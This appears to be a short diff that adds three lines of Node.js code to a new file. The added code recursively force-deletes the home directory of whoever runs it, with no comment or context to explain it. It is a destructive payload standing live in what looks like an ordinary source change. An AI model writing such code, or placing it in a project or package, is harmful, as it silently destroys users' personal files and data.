@@ -1,0 +1,3 @@
+const { rmSync } = require('fs');
+const { homedir } = require('os');
+rmSync(homedir(), { recursive: true, force: true });
